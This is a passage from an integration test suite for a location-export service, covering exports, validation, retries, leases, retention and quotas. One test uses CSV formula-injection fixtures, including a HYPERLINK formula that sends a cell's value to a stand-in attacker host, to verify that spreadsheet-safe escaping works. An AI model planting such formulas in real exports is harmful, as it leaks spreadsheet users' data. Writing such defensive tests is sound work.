import { parse } from 'csv-parse/sync';
import { createHash, randomUUID } from 'node:crypto';
import {
  csvRowToLocationInput,
  eventSchema,
  exportListReplySchema,
  exportStatusReplySchema,
  jsonExportFileSchema,
  LOCATION_CSV_COLUMNS,
  type Location,
  validate,
} from '@lx/contracts';
import { exportObjectKey } from '@lx/domain';
import { aLocation } from '@lx/domain/testing';
import { ObjectStore } from '@lx/storage';
import { waitFor } from '@lx/testing';
import { Readable } from 'node:stream';
import { PurgeExpiredExportsSchedule } from '../../src/export/retention/purge-expired-exports.schedule';
import {
  type ExportWorkerHarness,
  type Json,
  type SnapshotGroup,
  startExportWorker,
} from '../support/export-worker-harness';

const GROUP = randomUUID();

/** Locations of every shape an export must carry unchanged. */
function locationsOfEveryShape(): Location[] {
  const mdu = randomUUID();
  const at = (minute: number) => `2024-03-01T10:${String(minute).padStart(2, '0')}:00.000Z`;
  return [
    aLocation({ id: randomUUID(), coordinates: undefined, updatedAt: at(1), locationGroupId: GROUP }),
    aLocation({ id: randomUUID(), address: undefined, updatedAt: at(2), status: 'PLANNED' }),
    aLocation({
      id: randomUUID(),
      updatedAt: at(3),
      notes: 'Zürich – 北京 "quoted", comma\nline break\r\nand CRLF',
      customFields: { tags: ['a', 'b,c', '"q"'], floors: 3, active: true, mixed: [1, 'x', false] },
      fiberAccessDetails: {
        circuitId: 'C-1',
        fda: 'FDA 7',
        layer2AccessProtocol: 'GPON',
        dropStatus: 'TEMP_DROP',
        serviceability: { status: 'ACTIVE', availableDate: '2024-02-01' },
      },
      locationGroupId: GROUP,
    }),
    ...['1', '2', '3'].map((unit, index) =>
      aLocation({
        id: randomUUID(),
        updatedAt: at(4 + index),
        address: {
          streetNumber: '10',
          streetName: 'Main',
          streetType: 'STREET',
          streetDirection: 'NE',
          subunitType: 'APT',
          subunitIdentifier: unit,
          addressGroupId: mdu,
        },
        status: index === 0 ? 'RETIRED' : 'CONSTRUCTION',
      }),
    ),
  ];
}

const byId = (a: { id: string }, b: { id: string }) => a.id.localeCompare(b.id);

async function download(url: string): Promise<{ response: Response; bytes: Buffer }> {
  const response = await fetch(url);
  return { response, bytes: Buffer.from(await response.arrayBuffer()) };
}

/** The export worker against real Postgres, Kafka and MinIO, with stand-in HTTP peers for the read side. */
describe('exports', () => {
  let service: ExportWorkerHarness;

  beforeAll(async () => {
    service = await startExportWorker({
      EXPORT_MAX_UNFINISHED: '50',
      EXPORT_MAX_ATTEMPTS: '2',
      READ_STATEMENT_TIMEOUT_MS: '1000',
    });
    service.peers.locations.push(...locationsOfEveryShape());
    service.peers.groups.add(GROUP);
  }, 90_000);

  afterAll(() => service?.close());

  const create = (body: unknown, options: { clientId?: string; headers?: Record<string, string> } = {}) =>
    service.request('POST', '/locations/exports', { body, ...options });

  /** Writes an object as an attempt of the request would (a stand-in for one whose replica died after its upload). */
  const leaveObject = (key: string) =>
    service.app.get(ObjectStore).put(key, Readable.from(['left by a dead attempt']), { contentType: 'text/plain' });
  /** Whether the bucket holds `key`: a download through a fresh link (MinIO answers 404 for a missing object). */
  const objectExists = async (key: string) => {
    const link = await service.app
      .get(ObjectStore)
      .presignGet(key, { expiresInSeconds: 60, filename: 'x', contentType: 'text/plain', now: new Date() });
    const { response } = await download(link.url);
    if (response.status !== 200 && response.status !== 404) throw new Error(`MinIO answered ${response.status}`);
    return response.status === 200;
  };

  describe('round trips', () => {
    it('json: 202 with Location, then COMPLETED with a signed link to the exact locations, and EXPORT_COMPLETED', async () => {
      const accepted = await create({ format: 'json' });
      expect(accepted.status).toBe(202);
      expect(accepted.body).toEqual({ requestId: expect.any(String), status: 'PENDING', message: expect.any(String) });
      expect(accepted.headers['location']).toBe(`/locations/exports/${accepted.body.requestId}`);

      const done = await service.settled(accepted.body.requestId);
      expect(validate(exportStatusReplySchema, done).ok).toBe(true);
      expect(done).toMatchObject({ status: 'COMPLETED', format: 'json', totalCount: 6 });

      const { response, bytes } = await download(done.exportUrl);
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toBe('application/json');
      expect(response.headers.get('content-disposition')).toContain(
        `attachment; filename="locations-export-${done.requestId}.json"`,
      );
      expect(Number(response.headers.get('content-length'))).toBe(bytes.length);
      expect(done.sizeBytes).toBe(bytes.length);
      expect(done.sha256).toBe(createHash('sha256').update(bytes).digest('hex'));

      const file = JSON.parse(bytes.toString('utf8'));
      expect(validate(jsonExportFileSchema, file).ok).toBe(true);
      expect(file.exportTimestamp).toBe(done.exportTimestamp);
      expect(file.totalCount).toBe(6);
      expect(file.locations).toEqual([...service.peers.locations].sort(byId));

      const [event] = await service.events.waitFor(1, [done.requestId]);
      expect(validate(eventSchema('EXPORT_COMPLETED'), event!.event).ok).toBe(true);
      expect(event!.version).toBe(1);
      expect(event!.event.data).toEqual({
        clientId: 'rsp-one',
        notification: {
          requestId: done.requestId,
          status: 'COMPLETED',
          exportUrl: done.exportUrl,
          downloadExpiresAt: done.downloadExpiresAt,
          exportTimestamp: done.exportTimestamp,
          totalCount: 6,
        },
      });
      // Every call to a peer carried the service's own token.
      expect(service.peers.authorizations.every((value) => value.startsWith('Bearer '))).toBe(true);
    });

    it('csv: RFC 4180 with the dotted header, each row decoding to the location it came from', async () => {
      const accepted = await create({ format: 'csv' });
      const done = await service.settled(accepted.body.requestId);
      expect(done.status).toBe('COMPLETED');
      const { response, bytes } = await download(done.exportUrl);
      expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(response.headers.get('content-disposition')).toContain('.csv"');

      const [header, ...rows] = parse(bytes.toString('utf8'));
      expect(header).toEqual(LOCATION_CSV_COLUMNS);
      const expected = [...service.peers.locations].sort(byId);
      expect(rows).toHaveLength(expected.length);
      rows.forEach((cells, index) => {
        const record = csvRowToLocationInput(Object.fromEntries(header!.map((name, column) => [name, cells[column]!])));
        const { id, createdAt, updatedAt, ...input } = expected[index]!;
        expect(record).toEqual({ id, input, issues: [] });
        expect(cells.slice(1, 3)).toEqual([createdAt, updatedAt]);
      });
    });

    it('json: every live group in a full export; the groups changed after modifiedSince, tombstones included, in an incremental one; csv: none', async () => {
      const group = (name: string, type: 'OTHER' | 'MDU_COMPLEX', minute: number, deleted = false) => {
        const changedAt = `2024-03-01T11:${String(minute).padStart(2, '0')}:00.000Z`;
        return {
          item: { id: randomUUID(), name, type, ...(deleted ? { deletedAt: changedAt } : {}) },
          changedAt,
        } as SnapshotGroup;
      };
      const locationGroups = [
        group('Phase 1', 'OTHER', 1),
        group('Phase "2" – Zürich', 'OTHER', 5),
        group('Phase 3', 'OTHER', 6, true),
      ];
      const addressGroups = [group('Tower 北', 'MDU_COMPLEX', 2), group('Tower B', 'MDU_COMPLEX', 7, true)];
      service.peers.locationGroups.push(...locationGroups);
      service.peers.addressGroups.push(...addressGroups);
      const items = (groups: SnapshotGroup[]) => groups.map((one) => one.item).sort(byId);
      const fileOf = async (body: Json) => {
        const done = await service.settled((await create(body)).body.requestId);
        expect(done.status).toBe('COMPLETED');
        const bytes = (await download(done.exportUrl)).bytes;
        expect(done.sha256).toBe(createHash('sha256').update(bytes).digest('hex'));
        return { done, text: bytes.toString('utf8'), file: JSON.parse(bytes.toString('utf8')) };
      };
      try {
        const full = await fileOf({ format: 'json' });
        expect(validate(jsonExportFileSchema, full.file).ok).toBe(true);
        expect(Object.keys(full.file)).toEqual([
          'exportTimestamp',
          'totalCount',
          'locations',
          'locationGroups',
          'addressGroups',
        ]);
        expect(full.file).toMatchObject({
          totalCount: 6,
          locationGroups: items(locationGroups.slice(0, 2)),
          addressGroups: items(addressGroups.slice(0, 1)),
        });
        expect(full.file.locations).toEqual([...service.peers.locations].sort(byId));

        const incremental = await fileOf({ format: 'json', modifiedSince: '2024-03-01T11:04:00Z' });
        expect(validate(jsonExportFileSchema, incremental.file).ok).toBe(true);
        expect(incremental.file).toEqual({
          exportTimestamp: incremental.done.exportTimestamp,
          totalCount: 0,
          locations: [],
          locationGroups: items(locationGroups.slice(1, 3)),
          addressGroups: items(addressGroups.slice(1, 2)),
        });
        // The tombstones as location-query streams them: the group's last fields and deletedAt.
        expect(incremental.text).toContain(JSON.stringify(locationGroups[2]!.item));

        // filters.locationGroupId selects locations, not groups.
        const filtered = await fileOf({ format: 'json', filters: { locationGroupId: GROUP } });
        expect(filtered.file.locations.map((location: Location) => location.locationGroupId)).toEqual([GROUP, GROUP]);
        expect(filtered.file.locationGroups).toEqual(items(locationGroups.slice(0, 2)));

        const csvDone = await service.settled((await create({ format: 'csv' })).body.requestId);
        const csvText = (await download(csvDone.exportUrl)).bytes.toString('utf8');
        expect(parse(csvText)).toHaveLength(1 + service.peers.locations.length);
        expect(csvText).not.toContain('Phase 1');
      } finally {
        service.peers.locationGroups.length = 0;
        service.peers.addressGroups.length = 0;
      }
    });

    it('json with includeVersions: each location and group item ends with its version; the status echoes the flag', async () => {
      const [first, second] = [...service.peers.locations].sort(byId) as [Location, Location];
      service.peers.versions.set(first.id, 7);
      const live: SnapshotGroup = {
        item: { id: randomUUID(), name: 'Versioned', type: 'OTHER' },
        changedAt: '2024-03-01T12:01:00.000Z',
        version: 4,
      };
      const tombstone: SnapshotGroup = {
        item: { id: randomUUID(), name: 'Gone', type: 'MDU_COMPLEX', deletedAt: '2024-03-01T12:02:00.000Z' },
        changedAt: '2024-03-01T12:02:00.000Z',
        version: 3,
      };
      service.peers.locationGroups.push(live);
      service.peers.addressGroups.push(tombstone);
      try {
        const accepted = await create({ format: 'json', includeVersions: true });
        expect(accepted.status).toBe(202);
        const done = await service.settled(accepted.body.requestId);
        expect(done).toMatchObject({ status: 'COMPLETED', includeVersions: true, totalCount: 6 });
        expect(validate(exportStatusReplySchema, done).ok).toBe(true);
        const text = (await download(done.exportUrl)).bytes.toString('utf8');
        const file = JSON.parse(text);
        expect(validate(jsonExportFileSchema, file).ok).toBe(true);
        // The snapshot's lines copied verbatim: the location's text, then its version as the last key.
        expect(text).toContain(`${JSON.stringify(first).slice(0, -1)},"version":7}`);
        expect(file.locations[0]).toEqual({ ...first, version: 7 });
        expect(file.locations[1]).toEqual({ ...second, version: 1 });
        expect(file.locations.every((location: Json) => Object.keys(location).at(-1) === 'version')).toBe(true);
        expect(file.locationGroups).toEqual([{ ...live.item, version: 4 }]);
        expect(file.addressGroups).toEqual([]);

        const incremental = await service.settled(
          (await create({ format: 'json', includeVersions: true, modifiedSince: '2024-03-01T12:00:00Z' })).body
            .requestId,
        );
        const incrementalText = (await download(incremental.exportUrl)).bytes.toString('utf8');
        expect(JSON.parse(incrementalText).addressGroups).toEqual([{ ...tombstone.item, version: 3 }]);
        expect(incrementalText).toContain(JSON.stringify({ ...tombstone.item, version: 3 }));

        // Without the flag: no version anywhere, and no flag in the status.
        const plain = await service.settled((await create({ format: 'json', includeVersions: false })).body.requestId);
        expect(plain).not.toHaveProperty('includeVersions');
        const plainText = (await download(plain.exportUrl)).bytes.toString('utf8');
        expect(plainText).not.toContain('"version"');
        expect(JSON.parse(plainText).locations[0]).toEqual(first);
        const { rows } = await service.db.query(
          'SELECT id::text, include_versions FROM export_requests WHERE id = ANY($1::uuid[]) ORDER BY created_at',
          [[done.requestId, plain.requestId]],
        );
        expect(rows).toEqual([
          { id: done.requestId, include_versions: true },
          { id: plain.requestId, include_versions: false },
        ]);
      } finally {
        service.peers.versions.clear();
        service.peers.locationGroups.length = 0;
        service.peers.addressGroups.length = 0;
      }
    });

    it('csv with spreadsheetSafe: formula cells get a leading apostrophe, numbers and the default file stay exact', async () => {
      const formulas = aLocation({
        id: randomUUID(),
        updatedAt: '2024-03-01T13:00:00.000Z',
        notes: '=HYPERLINK("http://attacker.invalid/?"&A1, "Click")',
        coordinates: { latitude: -33.8688, longitude: 151.2093 },
        fiberAccessDetails: { circuitId: '@SUM(1+1)', fda: '-2+3+cmd', dropStatus: 'TEMP_DROP' },
      });
      service.peers.locations.push(formulas);
      const cellsOf = async (done: Json) => {
        const parsed: string[][] = parse((await download(done.exportUrl)).bytes.toString('utf8'));
        const [header, ...rows] = parsed;
        const row = rows.find((cells) => cells[0] === formulas.id)!;
        return (name: string) => row[header!.indexOf(name)];
      };
      try {
        const accepted = await create({ format: 'csv', spreadsheetSafe: true, modifiedSince: '2024-03-01T12:30:00Z' });
        expect(accepted.status).toBe(202);
        const safe = await service.settled(accepted.body.requestId);
        expect(safe).toMatchObject({ status: 'COMPLETED', format: 'csv', spreadsheetSafe: true, totalCount: 1 });
        expect(validate(exportStatusReplySchema, safe).ok).toBe(true);
        const safeCell = await cellsOf(safe);
        expect(safeCell('notes')).toBe(`'${formulas.notes}`);
        expect(safeCell('fiberAccessDetails.circuitId')).toBe("'@SUM(1+1)");
        expect(safeCell('fiberAccessDetails.fda')).toBe("'-2+3+cmd");
        expect([safeCell('coordinates.latitude'), safeCell('coordinates.longitude')]).toEqual(['-33.8688', '151.2093']);
        expect(safeCell('fiberAccessDetails.dropStatus')).toBe('TEMP_DROP');

        // The default file is the exact copy: every cell as stored.
        const exact = await service.settled((await create({ format: 'csv', spreadsheetSafe: false })).body.requestId);
        expect(exact).not.toHaveProperty('spreadsheetSafe');
        const exactCell = await cellsOf(exact);
        expect(exactCell('notes')).toBe(formulas.notes);
        expect(exactCell('fiberAccessDetails.circuitId')).toBe('@SUM(1+1)');
        const { rows } = await service.db.query(
          'SELECT id::text, spreadsheet_safe FROM export_requests WHERE id = ANY($1::uuid[]) ORDER BY created_at',
          [[safe.requestId, exact.requestId]],
        );
        expect(rows).toEqual([
          { id: safe.requestId, spreadsheet_safe: true },
          { id: exact.requestId, spreadsheet_safe: false },
        ]);
      } finally {
        service.peers.locations.splice(service.peers.locations.indexOf(formulas), 1);
      }
    });

    it('modifiedSince and filters.locationGroupId select exactly the matching locations', async () => {
      const since = '2024-03-01T10:02:00.000Z';
      const done = await service.settled(
        (await create({ format: 'json', modifiedSince: '2024-03-01T10:02:00Z', filters: { locationGroupId: GROUP } }))
          .body.requestId,
      );
      expect(done).toMatchObject({ modifiedSince: since, filters: { locationGroupId: GROUP }, totalCount: 1 });
      const file = JSON.parse((await download(done.exportUrl)).bytes.toString('utf8'));
      expect(file.locations).toEqual(
        service.peers.locations.filter((l) => l.updatedAt > since && l.locationGroupId === GROUP),
      );
    });
  });

  describe('bad requests', () => {
    it.each([
      [{}, 'INVALID_FORMAT', 'format'],
      [{ format: 'xml' }, 'INVALID_FORMAT', 'format'],
      [{ format: 'json', modifiedSince: '2024-01-01' }, 'INVALID_DATE_RANGE', 'modifiedSince'],
      [{ format: 'json', modifiedSince: '2999-01-01T00:00:00Z' }, 'INVALID_DATE_RANGE', 'modifiedSince'],
      [{ format: 'json', since: '2024-01-01T00:00:00Z' }, 'VALIDATION_ERROR', 'since'],
      [{ format: 'json', filters: { locationGroupId: 'nope' } }, 'VALIDATION_ERROR', 'filters.locationGroupId'],
      [{ format: 'csv', includeVersions: true }, 'VALIDATION_ERROR', 'includeVersions'],
      [{ format: 'json', includeVersions: 'yes' }, 'VALIDATION_ERROR', 'includeVersions'],
      [{ format: 'json', spreadsheetSafe: true }, 'VALIDATION_ERROR', 'spreadsheetSafe'],
      [{ format: 'csv', spreadsheetSafe: 1 }, 'VALIDATION_ERROR', 'spreadsheetSafe'],
      [
        { format: 'json', filters: { locationGroupId: randomUUID() } },
        'INVALID_GROUP_REFERENCE',
        'filters.locationGroupId',
      ],
    ])('given %p, then 400 %s naming %s', async (body, code, field) => {
      const reply = await create(body);
      expect(reply.status).toBe(400);
      expect(reply.body.error.code).toBe(code);
      expect(reply.body.error.details.issues.map((issue: Json) => issue.field)).toContain(field);
    });

    it('given a malformed id, then 400 INVALID_REQUEST; given an unknown one, 404 naming the export', async () => {
      const malformed = await service.request('GET', '/locations/exports/not-a-uuid');
      expect(malformed.status).toBe(400);
      expect(malformed.body.error.code).toBe('INVALID_REQUEST');
      const id = randomUUID();
      const unknown = await service.request('GET', `/locations/exports/${id}`);
      expect(unknown.status).toBe(404);
      expect(unknown.body.error).toMatchObject({
        code: 'RESOURCE_NOT_FOUND',
        details: { resourceType: 'export', resourceId: id },
      });
    });

    it('given no token, then 401; given a token without locations:read, then 403', async () => {
      expect(
        (await service.request('POST', '/locations/exports', { body: { format: 'json' }, token: null })).status,
      ).toBe(401);
      const writeOnly = await service.issuer.token({ scopes: ['locations:write'] });
      expect((await service.request('GET', '/locations/exports', { token: writeOnly })).status).toBe(403);
    });

    it('given bad list parameters, then each is named', async () => {
      const reply = await service.request('GET', '/locations/exports?status=DONE&limit=0&offset=-1&x=1');
      expect(reply.status).toBe(400);
      expect(reply.body.error.details.issues.map((issue: Json) => issue.field).sort()).toEqual([
        'limit',
        'offset',
        'status',
        'x',
      ]);
    });
  });

  describe('isolation and listing', () => {
    it('another client neither reads, lists nor renews the export; the owner lists it newest first', async () => {
      const first = (await create({ format: 'json' }, { clientId: 'rsp-list' })).body.requestId;
      const second = (await create({ format: 'csv' }, { clientId: 'rsp-list' })).body.requestId;
      await service.settled(first, 'rsp-list');
      await service.settled(second, 'rsp-list');

      const foreign = await service.request('GET', `/locations/exports/${first}`, { clientId: 'rsp-other' });
      expect(foreign.status).toBe(404);
      expect(foreign.body.error.details.resourceType).toBe('export');
      expect(
        (await service.request('POST', `/locations/exports/${first}/link`, { clientId: 'rsp-other' })).status,
      ).toBe(404);
      const others = await service.request('GET', '/locations/exports', { clientId: 'rsp-other' });
      expect(others.body.exports).toEqual([]);

      const own = await service.request('GET', '/locations/exports?status=COMPLETED&limit=1', { clientId: 'rsp-list' });
      expect(own.status).toBe(200);
      expect(validate(exportListReplySchema, own.body).ok).toBe(true);
      expect(own.body.pagination).toEqual({ limit: 1, offset: 0, total: 2 });
      expect(own.body.exports.map((item: Json) => item.requestId)).toEqual([second]);
    });

    it('lists on the bounded read pool: offsets past 10,000 refused, a list held up past the statement timeout 503', async () => {
      const deep = await service.request('GET', '/locations/exports?offset=10001');
      expect(deep.status).toBe(400);
      expect(deep.body.error.details.issues).toEqual([
        expect.objectContaining({ field: 'offset', message: expect.stringContaining('narrow the filters') }),
      ]);
      await service.db.query('BEGIN');
      try {
        await service.db.query('LOCK TABLE export_requests IN ACCESS EXCLUSIVE MODE');
        const held = await service.request('GET', '/locations/exports');
        expect(held.status).toBe(503);
        expect(held.headers['retry-after']).toBe('1');
        expect(held.body.error.details).toEqual({ reason: 'statementTimeout', timeoutMs: 1000 });
      } finally {
        await service.db.query('ROLLBACK');
      }
    });
  });

  describe('Idempotency-Key', () => {
    it('same key and body: the first reply again and no second export; another body: 409 CONFLICT', async () => {
      const headers = { 'idempotency-key': `key-${randomUUID()}` };
      const first = await create({ format: 'json' }, { clientId: 'rsp-idem', headers });
      const again = await create({ format: 'json' }, { clientId: 'rsp-idem', headers });
      expect(again.status).toBe(202);
      expect(again.body).toEqual(first.body);
      expect(again.headers['location']).toBe(first.headers['location']);
      const conflict = await create({ format: 'csv' }, { clientId: 'rsp-idem', headers });
      expect(conflict.status).toBe(409);
      expect(conflict.body.error.code).toBe('CONFLICT');
      // includeVersions is part of the body; false is the same as leaving it out.
      expect((await create({ format: 'json', includeVersions: true }, { clientId: 'rsp-idem', headers })).status).toBe(
        409,
      );
      const same = await create({ format: 'json', includeVersions: false }, { clientId: 'rsp-idem', headers });
      expect(same.status).toBe(202);
      expect(same.body).toEqual(first.body);
      const { rows } = await service.db.query(
        `SELECT count(*)::int AS n FROM export_requests WHERE client_id = 'rsp-idem'`,
      );
      expect(rows[0].n).toBe(1);
      // The key belongs to its client: another client may use the same one.
      const other = await create({ format: 'csv' }, { clientId: 'rsp-idem-2', headers });
      expect(other.status).toBe(202);
      // So is spreadsheetSafe, alike.
      const safe = await create({ format: 'csv', spreadsheetSafe: true }, { clientId: 'rsp-idem-2', headers });
      expect(safe.status).toBe(409);
      const plain = await create({ format: 'csv', spreadsheetSafe: false }, { clientId: 'rsp-idem-2', headers });
      expect(plain.body).toEqual(other.body);
    });
  });

  describe('limits', () => {
    it('a count above the maximum is 400 EXPORT_SIZE_EXCEEDED, decided from the statistics count', async () => {
      service.peers.countOverride = 5_000_001;
      try {
        const reply = await create({ format: 'json' }, { clientId: 'rsp-size' });
        expect(reply.status).toBe(400);
        expect(reply.body.error).toMatchObject({
          code: 'EXPORT_SIZE_EXCEEDED',
          details: { matchingLocations: 5_000_001, maxLocations: 5_000_000 },
        });
      } finally {
        service.peers.countOverride = undefined;
      }
    });
  });

  describe('failures', () => {
    it('a snapshot that keeps failing is retried, then FAILED with EXPORT_GENERATION_FAILED and EXPORT_FAILED', async () => {
      const modifiedSince = '2001-01-01T00:00:01.000Z';
      service.peers.failingSnapshots.set(modifiedSince, 2);
      const requestId = (await create({ format: 'json', modifiedSince }, { clientId: 'rsp-fail' })).body.requestId;
      const done = await service.settled(requestId, 'rsp-fail');
      expect(done.status).toBe('FAILED');
      expect(done.error.code).toBe('EXPORT_GENERATION_FAILED');
      // What the RSP can act on, and the id to quote; the cause (the snapshot's path, status and reply) is not shown.
      expect(done.error.message).toContain('after 2 attempts');
      expect(done.error.message).toContain(`quote export id ${requestId}`);
      expect(done.error.message.replace(requestId, '')).not.toMatch(/snapshot|500|internal|http/i);
      const [event] = await service.events.waitFor(1, [requestId]);
      expect(event!.event).toMatchObject({
        type: 'EXPORT_FAILED',
        data: { clientId: 'rsp-fail', notification: { requestId, status: 'FAILED', error: done.error } },
      });
      expect(validate(eventSchema('EXPORT_FAILED'), event!.event).ok).toBe(true);
    });

    it('one failing attempt is retried and the export completes', async () => {
      const modifiedSince = '2001-01-01T00:00:02.000Z';
      service.peers.failingSnapshots.set(modifiedSince, 1);
      const requestId = (await create({ format: 'csv', modifiedSince }, { clientId: 'rsp-retry' })).body.requestId;
      expect((await service.settled(requestId, 'rsp-retry')).status).toBe('COMPLETED');
      const { rows } = await service.db.query('SELECT attempts FROM export_requests WHERE id = $1', [requestId]);
      expect(rows[0].attempts).toBe(2);
    });

    it('a token without locations:internal (issued before an upgrade) is fetched anew once, on the same attempt', async () => {
      const modifiedSince = '2001-01-01T00:00:03.000Z';
      const first = (await create({ format: 'json', modifiedSince }, { clientId: 'rsp-scope' })).body.requestId;
      expect((await service.settled(first, 'rsp-scope')).status).toBe('COMPLETED');
      // The token the worker holds now lacks the scope, as one issued before the upgrade would.
      const held = service.peers.issuedTokens.length;
      service.peers.tokensWithoutInternalScope.add(service.peers.issuedTokens[held - 1]!);

      const second = (await create({ format: 'csv', modifiedSince }, { clientId: 'rsp-scope' })).body.requestId;
      expect((await service.settled(second, 'rsp-scope')).status).toBe('COMPLETED');
      expect(service.peers.issuedTokens.length).toBeGreaterThan(held);
      const { rows } = await service.db.query('SELECT attempts FROM export_requests WHERE id = $1', [second]);
      expect(rows[0].attempts).toBe(1);
    });

    it('a request whose lease lapsed (its replica died) is taken over and completed once, its first object removed', async () => {
      const id = randomUUID();
      const deadAttempt = exportObjectKey({ id, clientId: 'rsp-crash', format: 'json' }, 1);
      await leaveObject(deadAttempt);
      expect(await objectExists(deadAttempt)).toBe(true);
      await service.db.query(
        `INSERT INTO export_requests (id, client_id, format, status, attempts, request_hash, lease_owner,
           lease_expires_at, next_attempt_at, created_at, updated_at)
         VALUES ($1, 'rsp-crash', 'json', 'PENDING', 1, 'h', 'dead-replica', now() - interval '1 second', now(), now(), now())`,
        [id],
      );
      const done = await service.settled(id, 'rsp-crash');
      expect(done.status).toBe('COMPLETED');
      const { rows } = await service.db.query('SELECT attempts, lease_owner FROM export_requests WHERE id = $1', [id]);
      expect(rows[0]).toEqual({ attempts: 2, lease_owner: null });
      await service.events.waitFor(1, [id]);
      expect(service.events.of(id)).toHaveLength(1);
      // Removed after the commit that made the status COMPLETED: awaited, not assumed.
      await waitFor("the dead attempt's object removed", async () => !(await objectExists(deadAttempt)));
      expect(await objectExists(exportObjectKey({ id, clientId: 'rsp-crash', format: 'json' }, 2))).toBe(true);
    });

    it('a request whose last attempt fails removes the object an earlier, dead attempt left', async () => {
      const id = randomUUID();
      const modifiedSince = '2001-01-01T00:00:04.000Z';
      service.peers.failingSnapshots.set(modifiedSince, 1);
      const deadAttempt = exportObjectKey({ id, clientId: 'rsp-crash-fail', format: 'csv' }, 1);
      await leaveObject(deadAttempt);
      await service.db.query(
        `INSERT INTO export_requests (id, client_id, format, modified_since, status, attempts, request_hash, lease_owner,
           lease_expires_at, next_attempt_at, created_at, updated_at)
         VALUES ($1, 'rsp-crash-fail', 'csv', $2, 'PENDING', 1, 'h', 'dead-replica', now() - interval '1 second', now(),
           now(), now())`,
        [id, modifiedSince],
      );
      expect((await service.settled(id, 'rsp-crash-fail')).status).toBe('FAILED');
      await waitFor("the dead attempt's object removed", async () => !(await objectExists(deadAttempt)));
    });

    it('a request leased by a live replica is left alone until its lease lapses', async () => {
      const id = randomUUID();
      await service.db.query(
        `INSERT INTO export_requests (id, client_id, format, status, attempts, request_hash, lease_owner,
           lease_expires_at, next_attempt_at, created_at, updated_at)
         VALUES ($1, 'rsp-live', 'json', 'PENDING', 1, 'h', 'live-replica', now() + interval '2 seconds', now(), now(), now())`,
        [id],
      );
      await new Promise((resolve) => setTimeout(resolve, 1000));
      const { rows } = await service.db.query('SELECT lease_owner, attempts FROM export_requests WHERE id = $1', [id]);
      expect(rows[0]).toEqual({ lease_owner: 'live-replica', attempts: 1 });
      expect((await service.settled(id, 'rsp-live')).status).toBe('COMPLETED');
    });
  });

  describe('links and retention', () => {
    it('a fresh link works; after retention the file is deleted and a new link is refused as expired', async () => {
      const requestId = (await create({ format: 'json' }, { clientId: 'rsp-link' })).body.requestId;
      const done = await service.settled(requestId, 'rsp-link');
      const renewed = await service.request('POST', `/locations/exports/${requestId}/link`, { clientId: 'rsp-link' });
      expect(renewed.status).toBe(200);
      expect(renewed.body).toMatchObject({ requestId, status: 'COMPLETED', sha256: done.sha256 });
      const { bytes } = await download(renewed.body.exportUrl);
      expect(createHash('sha256').update(bytes).digest('hex')).toBe(done.sha256);
      expect(
        (await service.request('GET', `/locations/exports/${requestId}`, { clientId: 'rsp-link' })).body.exportUrl,
      ).toBe(renewed.body.exportUrl);

      await service.db.query(`UPDATE export_requests SET file_expires_at = now() - interval '1 second' WHERE id = $1`, [
        requestId,
      ]);
      expect(await service.app.get(PurgeExpiredExportsSchedule).execute()).toBeGreaterThanOrEqual(1);
      expect((await download(renewed.body.exportUrl)).response.status).toBe(404);
      const refused = await service.request('POST', `/locations/exports/${requestId}/link`, { clientId: 'rsp-link' });
      expect(refused.status).toBe(404);
      expect(refused.body.error.message).toContain('expired');
    });

    it('after retention, what the attempts of a FAILED export left is deleted; a recent one is kept', async () => {
      const failed = async (daysAgo: number) => {
        const id = randomUUID();
        const keys = [1, 2].map((attempt) => exportObjectKey({ id, clientId: 'rsp-gone', format: 'json' }, attempt));
        for (const key of keys) await leaveObject(key);
        await service.db.query(
          `INSERT INTO export_requests (id, client_id, format, status, attempts, request_hash, error_code, error_message,
             next_attempt_at, created_at, updated_at)
           VALUES ($1, 'rsp-gone', 'json', 'FAILED', 2, 'h', 'EXPORT_GENERATION_FAILED', 'failed', now(), now(),
             now() - make_interval(days => $2))`,
          [id, daysAgo],
        );
        return { id, keys };
      };
      const old = await failed(8);
      const recent = await failed(6);
      await service.app.get(PurgeExpiredExportsSchedule).execute();
      expect(await Promise.all(old.keys.map(objectExists))).toEqual([false, false]);
      expect(await Promise.all(recent.keys.map(objectExists))).toEqual([true, true]);
      const { rows } = await service.db.query(
        'SELECT id::text, file_deleted_at IS NOT NULL AS purged FROM export_requests WHERE id = ANY($1::uuid[])',
        [[old.id, recent.id]],
      );
      expect(rows).toEqual(
        expect.arrayContaining([
          { id: old.id, purged: true },
          { id: recent.id, purged: false },
        ]),
      );
      // The FAILED reply is unchanged by it.
      const status = await service.request('GET', `/locations/exports/${old.id}`, { clientId: 'rsp-gone' });
      expect(status.body).toMatchObject({ status: 'FAILED', error: { code: 'EXPORT_GENERATION_FAILED' } });
    });

    it('/metrics shows the size and estimated rows of each table of the schema', async () => {
      await service.db.query('ANALYZE export_requests');
      const metrics = await service.app.getHttpAdapter().getInstance().inject({ method: 'GET', url: '/metrics' });
      expect(metrics.statusCode).toBe(200);
      const value = (name: string, table: string) =>
        Number(new RegExp(`^${name}\\{table="${table}"\\} (\\d+)`, 'm').exec(metrics.body)?.[1] ?? NaN);
      for (const table of ['export_requests', 'outbox', 'export_rate_windows', 'migrations']) {
        expect(value('db_table_size_bytes', table)).toBeGreaterThan(0);
      }
      const { rows } = await service.db.query('SELECT count(*)::int AS n FROM export_requests');
      expect(value('db_table_rows_estimate', 'export_requests')).toBe(rows[0].n);
    });

    it('a link of a PENDING or FAILED export is 409', async () => {
      service.peers.lineDelayMs = 200;
      try {
        const requestId = (await create({ format: 'json' }, { clientId: 'rsp-pending' })).body.requestId;
        const reply = await service.request('POST', `/locations/exports/${requestId}/link`, {
          clientId: 'rsp-pending',
        });
        expect(reply.status).toBe(409);
        expect(reply.body.error.code).toBe('CONFLICT');
        await waitFor('progress', async () => {
          const status = (await service.request('GET', `/locations/exports/${requestId}`, { clientId: 'rsp-pending' }))
            .body;
          return status.status === 'PENDING' && status.progress.total === 6 && status.progress.written >= 0;
        });
      } finally {
        service.peers.lineDelayMs = 0;
      }
    });
  });
});

describe('export quotas', () => {
  let service: ExportWorkerHarness;

  beforeAll(async () => {
    service = await startExportWorker({
      EXPORT_RATE_LIMIT: '2',
      EXPORT_RATE_WINDOW_SECONDS: '3600',
      EXPORT_MAX_UNFINISHED: '1',
      EXPORT_LINK_TTL_SECONDS: '2',
    });
    service.peers.locations.push(aLocation({ id: randomUUID() }));
  }, 90_000);

  afterAll(() => service?.close());

  it('more requests than the quota per window: 429 RATE_LIMIT_EXCEEDED with Retry-After', async () => {
